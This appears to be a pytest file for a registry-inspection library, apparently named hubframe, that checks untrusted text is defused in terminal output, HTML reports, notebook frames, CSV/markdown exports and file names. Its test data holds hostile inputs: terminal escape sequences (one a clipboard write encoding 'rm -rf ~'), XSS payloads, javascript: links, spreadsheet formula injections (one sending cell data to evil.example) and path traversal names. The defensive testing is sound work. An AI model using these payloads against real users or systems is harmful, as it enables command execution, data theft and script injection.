"""Untrusted text: in pages, on terminals, in spreadsheets and as names of files."""

import json
import os
import pty
import re
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

import hubframe
from hubframe.apps.cli import one_line, output
from hubframe.errors import HubframeError, harmless
from hubframe.plots.wording import legible
from hubframe.report import write, write_report
from hubframe.report.answers import INSIDE
from hubframe.report.risks import GIVEN
from hubframe.tables import TABLES
from hubframe.tables.schema import sound
from hubframe.wire.statuses import quotable
from tests.live import stand
from tests.test_report import FILES, IMAGE, hub, label, told, words_alone  # noqa: F401

# What a terminal acts on, and what turns, hides or forges what people read.
STEERING = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;title\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "answerback": '\x1b[6n\x1b[c\x1bP$q"p\x1b\\',
    "c1": "\x9b31m\x9d52;c;eA==\x9c\x85",
    "erase": "good\rbad \x08\x08\x7f\x1b[2K\x1b[1A",
    "nul": "a\0b",
    "bidi": "\u202egpj.exe\u202c \u2066x\u2069 \u200f\u061c",
    "invisible": "ad\u200bmin\u2060\ufeff\xad",
    "tags": "x\U000e0041\U000e007f",
    "lines": "one\u2028two\u2029three\x0b\x0c",
    "half": "a\ud800b\udfff",
}  # fmt: skip
ACTS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff"
    "\ud800-\udfff\U000e0000-\U000e007f]"
)
STEERED = pytest.mark.parametrize("text", STEERING.values(), ids=STEERING)
ALL = " ".join(STEERING.values())


@STEERED
def test_the_tests_own_measure_sees_it(text):
    assert ACTS.search(text)


@STEERED
@pytest.mark.parametrize(
    "make",
    [quotable, harmless, one_line, legible, output._tame, lambda text: str(HubframeError(text))],
    ids=["quotable", "harmless", "one_line", "legible", "tame", "an error"],
)
def test_nothing_that_steers_is_left(text, make):
    if make is legible:
        text = sound(text)  # what frames hold
    assert not ACTS.search(make(text))
    assert make("Grüße, 世界 👍") == "Grüße, 世界 👍"


@pytest.mark.parametrize("kind", [each for each in hubframe.errors.__dict__.values()
                                  if isinstance(each, type) and issubclass(each, HubframeError)])  # fmt: skip
def test_every_error_is_harmless_and_short(kind):
    shown = str(kind(ALL + "x" * 10**6))

    assert not ACTS.search(shown)
    assert len(shown) < 5000


def test_halves_of_characters_are_read_alike_everywhere():
    frame = TABLES["labels"].from_records(
        [{"repo": "a/b", "source": "config", "key": "k", "value": "a\ud800b"}]
    )

    assert frame.value[0] == sound("a\ud800b") == "a\ufffdb"
    assert sound("\ud83d\udc4d") == "👍", "two halves are one"


# A registry whose documents are full of it.

TABLES_SHOWN = ["labels", "history", "configs"]
FORMATS = ["json", "markdown", "csv"]


@pytest.fixture(scope="module")
def rude():
    """A registry, and the reference of an image all of whose texts steer."""
    config = {
        "architecture": "amd64", "os": "linux", "author": ALL, "created": "2024-01-01T00:00:00Z",
        "config": {"Labels": {f"k{ALL}": ALL, "f": "=cmd|' /C calc'!A0"}, "Env": [f"A={ALL}"],
                   "Entrypoint": [ALL], "User": ALL, "WorkingDir": ALL},
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "1" * 64]},
        "history": [{"created": "2024-01-01T00:00:00Z", "created_by": f"RUN {ALL}", "comment": ALL}],
    }  # fmt: skip
    with stand.serve() as at:
        manifest = json.loads(stand.wrapped(at, json.dumps(config).encode()))
        manifest["annotations"] = {ALL: ALL}
        image = at.serve("image", json.dumps(manifest).encode())
        odd = json.loads(json.dumps(manifest))
        odd["config"]["mediaType"] = f"application/{ALL}"
        artifact = at.serve("artifact", json.dumps(odd).encode())
        entry = {"digest": stand.digest_of(b"x"), "size": 1, "mediaType": stand.images.OCI_MANIFEST}
        entry["platform"] = {"os": ALL, "architecture": ALL}
        listed = {"schemaVersion": 2, "mediaType": stand.images.OCI_INDEX, "manifests": [entry]}
        index = at.serve("index", json.dumps(listed).encode())
        yield {"image": image, "artifact": artifact, "index": index}


# Runs commands one after the other, and says on both streams with which status each ended.
COMMANDS = """
import json, sys
from hubframe.apps.cli import run
for arguments in json.loads(sys.argv[1]):
    status = run(arguments)
    for stream in (sys.stdout, sys.stderr):
        stream.write(f"<ended with {status}>")
        stream.flush()
"""


@pytest.fixture(scope="module")
def on_terminal(rude):
    """Return what gives stdout, stderr and the status of a command that ran on a terminal."""
    commands = [
        *((name, rude["image"]) for name in TABLES_SHOWN),
        *(("labels", rude["image"], "--format", form) for form in FORMATS),
        *(("inspect", reference) for reference in rude.values()),
        ("manifest", rude["image"]),
    ]
    shown, said, status = streams("-c", COMMANDS, json.dumps(commands))
    assert status == 0, said
    parts = [re.split(rb"<ended with (\d+)>", stream) for stream in (shown, said)]
    (outs, statuses), (errs, _) = ((one[:-1:2], one[1::2]) for one in parts)
    ended = dict(zip(commands, zip(outs, errs, map(int, statuses), strict=True), strict=True))
    return lambda *arguments: ended[arguments]


def streams(*arguments, terminal=True):
    """Run Python whose stdout and stderr are a terminal, or pipes; return both, and the status."""
    ends = [pty.openpty() if terminal else os.pipe() for _ in range(2)]
    out, err = (ends[0][1], ends[1][1])
    process = subprocess.Popen(
        [sys.executable, *arguments],
        stdout=out, stderr=err, stdin=subprocess.DEVNULL,
        env={**os.environ, "COLUMNS": "500", "NO_PROXY": "127.0.0.1",
             "PYTHONPATH": str(Path(hubframe.__file__).parent.parent)},
    )  # fmt: skip
    os.close(out)
    os.close(err)
    with ThreadPoolExecutor(2) as pool:
        read = pool.map(_all, [end[0] for end in ends])
    return (*read, process.wait(60))


def _all(descriptor):
    seen = b""
    with os.fdopen(descriptor, "rb", buffering=0) as end:
        try:
            while chunk := end.read(65536):
                seen += chunk
        except OSError:
            pass  # what a terminal says at its end
    return seen


def harmless_bytes(seen):
    """Tell whether a terminal only shows what it was given; it ends lines with \\r\\n itself."""
    return not ACTS.search(seen.decode().replace("\r\n", "\n"))


@pytest.mark.parametrize("name", TABLES_SHOWN)
def test_a_table_on_a_terminal(rude, on_terminal, name):
    shown, said, status = on_terminal(name, rude["image"])

    assert status == 0, said
    assert b"image" in shown
    assert harmless_bytes(shown)
    assert harmless_bytes(said)


@pytest.mark.parametrize("form", FORMATS)
def test_a_format_on_a_terminal(rude, on_terminal, form):
    shown, said, status = on_terminal("labels", rude["image"], "--format", form)

    assert status == 0, said
    assert harmless_bytes(shown)


def test_inspect_on_a_terminal(rude, on_terminal):
    shown, _, status = on_terminal("inspect", rude["image"])

    assert status == 0
    assert b"Labels" in shown
    assert harmless_bytes(shown)


def test_a_manifest_is_shown_harmless_on_a_terminal_and_given_whole_to_a_program(rude, on_terminal):
    exact = hubframe.raw_manifest(rude["image"])
    shown, _, _ = on_terminal("manifest", rude["image"])
    line = ("-m", "hubframe", "manifest", rude["image"])
    piped, said, status = streams(*line, terminal=False)

    assert harmless_bytes(shown)
    assert b"schemaVersion" in shown
    assert (piped, said, status) == (exact, b"", 0)


@pytest.mark.parametrize("what", ["artifact", "index"])
def test_an_error_on_a_terminal(rude, on_terminal, what):
    shown, said, status = on_terminal("inspect", rude[what])

    assert (shown, status) == (b"", 1)
    assert harmless_bytes(said)
    assert said.count(b"\n") == 1


@pytest.mark.parametrize("what", ["artifact", "index"])
def test_an_error_in_a_program(rude, what):
    with pytest.raises(HubframeError) as caught:
        hubframe.inspect(rude[what])

    assert not ACTS.search(str(caught.value))


def test_warnings_and_failures(rude):
    with pytest.warns(hubframe.IncompleteWarning) as said:
        frame = hubframe.labels_df([rude["index"], rude["image"]], errors="collect")
    (failure,) = frame.attrs["hubframe"]["failures"]

    assert not ACTS.search(failure["message"])
    assert not any(ACTS.search(str(each.message)) for each in said)


# Pages.


EVIL = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'onmouseover='x",
    "</title></style><script>x</script>", "{{ 7 * 7 }}{% raw %}", "&lt;b&gt;&#60;i&#62;", "]]><!--", "`code`",
    "[link](javascript:alert(1))", "![x](https://evil.example/x.png)", "<a href=javascript:x>", "$\\href{javascript:x}{y}$",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:x", "java\nscript:x", "data:text/html,<script>",
    "vbscript:x", "//evil.example", "file:///etc/passwd", "https://x.example/\u202e", 'https://x.example/"onclick="x',
    "https://x.example/ y", "http:javascript:x", "https://x.example/<b>",
]  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def evil_world(*texts):
    """A world in which each text begins with one of some, in turn."""
    text = texts[0]
    world = hub(repos=2, tags=3)
    for frame in world.values():
        begun = pd.Series([texts[at % len(texts)] for at in range(len(frame))], dtype="str")
        for name, dtype in frame.dtypes.items():
            if str(dtype) == "str" and name not in ("key", "media_type"):
                frame[name] = begun + frame[name]
    source = {"repo": world["repos"]["repo"][0], "tag": "t"}
    links = [label(IMAGE | source, "source", address) for address in ADDRESSES]
    world["labels"] = pd.concat(
        [world["labels"], TABLES["labels"].from_records(links)], ignore_index=True
    )
    for name in (*INSIDE, *GIVEN):
        world[name] = TABLES[name].from_records([evil_row(name, one) for one in texts])
    return told(world, complete=False, failures=[{"ref": text, "error": text, "message": text}])


def evil_row(name, text):
    """A row of a table whose texts all begin with one, and which the page has something to say of."""
    usual = {"boolean": True, "Int64": 1, "Float64": 0.5}
    return {
        column: text + column if dtype == "str" else usual.get(str(dtype), "2024-01-01T00:00:00Z")
        for column, dtype in TABLES[name].dtypes.items()
    }


@pytest.fixture(scope="module")
def usual_elements(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(write, "write_excel", lambda *_: None)
        page = write_report(evil_world("x"), tmp_path_factory.mktemp("usual"), title="t")
    return Elements(page.read_text(encoding="utf-8"))


def test_a_page_has_no_element_and_no_attribute_of_strangers(tmp_path, usual_elements):
    evil = "".join(EVIL) + sound(ALL)
    page = write_report(evil_world(evil), tmp_path, title=evil, note=evil)
    text = page.read_text(encoding="utf-8")
    found = Elements(text)

    assert found.tags <= usual_elements.tags | {"span"}
    assert {name for name, _ in found.attributes} <= {n for n, _ in usual_elements.attributes} | {
        "title"
    }
    assert {path.name for path in tmp_path.iterdir()} <= FILES | {"report.html", "summary.json"}
    assert not ACTS.search(text)
    hrefs = [value for name, value in found.attributes if name in ("href", "src", "action")]
    assert all(
        re.match(r"#|[a-z_]+\.(csv|json|xlsx)$|data:image/png|https://git\.example", h)
        for h in hrefs
    )
    assert "49" not in re.findall(r"<h1>(.*)</h1>", text, re.DOTALL)[0]


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_link_but_to_the_web(address):
    labels = TABLES["labels"].from_records([label(IMAGE, "source", address)])

    assert hubframe.measure.source_links(labels).empty


def test_frames_in_notebooks_escape_html():
    frame = TABLES["labels"].from_records(
        {"repo": "a/b", "source": "config", "key": f"k{i}", "value": text}
        for i, text in enumerate(EVIL)
    )
    shown = Elements(frame._repr_html_())

    assert shown.tags <= {"div", "style", "table", "thead", "tbody", "tr", "th", "td", "p"}
    assert {name for name, _ in shown.attributes} <= {"border", "class", "style", "scoped"}


@STEERED
def test_a_frame_that_is_shown_acts_on_no_terminal(text):
    text = sound(text)
    frame = pd.DataFrame({"repo": [text, "Grüße"], text: [text, None]}, index=[text, "b"])
    frame.attrs["hubframe"] = {"table": text, "source": text, "complete": True}
    shown = repr(hubframe.show(frame))

    assert not ACTS.search(shown)
    assert "Grüße" in shown
    assert str(hubframe.show(frame)) == shown


def test_markdown_of_strangers_makes_nothing():
    frame = TABLES["labels"].from_records(
        [{"repo": "a/b", "source": "config", "key": "k|ey", "value": text} for text in EVIL]
    )
    rows = output._markdown(frame).splitlines()[2:]

    assert len(rows) == len(EVIL)
    for row in rows:
        assert not re.search(r"(?<!\\)(?:\\\\)*[<`\[\]]", row)
        assert len(re.findall(r"(?<!\\)\|", row)) == len(frame.columns) + 1


# Spreadsheets.


FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'@x", "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)', "-2+3+cmd|' /C calc'!A0", "'''\t", "=", "-",
]  # fmt: skip


def test_no_cell_is_run_and_all_come_back():
    frame = TABLES["labels"].from_records(
        [{"repo": "a/b", "source": "config", "key": text, "value": text}
         for text in [*FORMULAS, "plain", "a=1", " =1", ALL]]
    )  # fmt: skip
    text = hubframe.write_csv(frame)
    cells = pd.read_csv(pd.io.common.StringIO(text), dtype=str, keep_default_na=False)
    bare = hubframe.write_csv(frame, verbatim=True)

    assert not cells.map(lambda cell: bool(re.match(r"[=+\-@\t\r]", cell))).any(axis=None)
    assert (cells.value[: len(FORMULAS)] == ["'" + each for each in FORMULAS]).all()
    assert cells.value[len(FORMULAS)] == "plain"
    read = hubframe.read_csv(pd.io.common.StringIO(bare), "labels", verbatim=True)
    pd.testing.assert_frame_equal(read, frame)
    # Control characters are not kept.
    read = hubframe.read_csv(pd.io.common.StringIO(text), "labels")
    pd.testing.assert_frame_equal(read.head(-1), frame.head(-1))
    assert '"=1+1","=1+1"' in bare


# Names of files.


NAMES = ["../../x", "/etc/passwd", "a\0b", "CON", "nul.txt", "x" * 5000, "..\\..\\x", "~/x", "$(id)", ".", "-rf"]  # fmt: skip


def report_beside_nothing(world, folder, title):
    report = folder / "in" / "report"
    write_report(world, report, title=title)

    assert {path.name for path in report.iterdir()} <= FILES | {"report.html", "summary.json"}
    assert [path.name for path in folder.iterdir()] == ["in"]
    assert [path.name for path in report.parent.iterdir()] == ["report"]


@pytest.mark.usefixtures("words_alone")
def test_no_name_becomes_a_path(tmp_path):
    report_beside_nothing(evil_world(*NAMES), tmp_path, NAMES[0])


@pytest.mark.parametrize(
    "name",
    [*NAMES[:2], *(pytest.param(name, marks=pytest.mark.slow) for name in NAMES[2:])],
    ids=range(len(NAMES)),
)
def test_no_title_becomes_a_path(tmp_path, name):
    report_beside_nothing({}, tmp_path, name)


@pytest.mark.parametrize(
    "name",
    [
        "../../x",
        "/etc/passwd",
        "a\0b",
        "a/../b",
        "x.example/../a",
        "a//b",
        "a/b:../c",
        "~x",
        "x" * 5000,
        "-rf",
        "..\\x",
    ],
)
def test_no_such_name_is_asked_for(name, sample_client):
    with pytest.raises(hubframe.InvalidReferenceError) as caught:
        hubframe.tags_df(name, client=sample_client)
    assert len(str(caught.value)) < 500


def test_what_lies_in_a_report_folder_is_replaced_and_not_followed(tmp_path):
    folder, precious = tmp_path / "report", tmp_path / "precious"
    folder.mkdir()
    precious.write_text("mine")
    for name in ("report.html", "tags.csv", "pulls.png", "summary.json"):
        (folder / name).symlink_to(precious)
    write_report(hub(repos=1, tags=1), folder, title="t")

    assert precious.read_text() == "mine"
    assert not any(path.is_symlink() for path in folder.iterdir())
    assert not list(folder.glob(".report-*"))
